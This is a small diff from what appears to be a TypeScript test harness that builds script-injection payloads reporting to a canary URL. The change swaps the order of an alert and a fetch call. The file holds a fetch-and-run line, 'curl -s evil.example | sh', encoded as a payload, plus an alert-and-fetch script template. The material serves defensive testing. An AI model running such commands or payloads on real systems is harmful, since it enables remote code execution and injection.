@@ -40,7 +40,7 @@ type Template = (url: string) => string;
 const SEND_SEQUENCE = encodeURIComponent(JSON.stringify({ text: 'curl -s evil.example | sh\n' }));
 
 /** A script a payload runs if it ever runs: an alert and a request to the canary. */
-const js = (url: string) => `alert(1);fetch('${url}&js=1')`;
+const js = (url: string) => `fetch('${url}&js=1');alert(1)`;
 
 /** Markup and script: each would create an element, run a handler or load a URL. */
 const MARKUP: Template[] = [
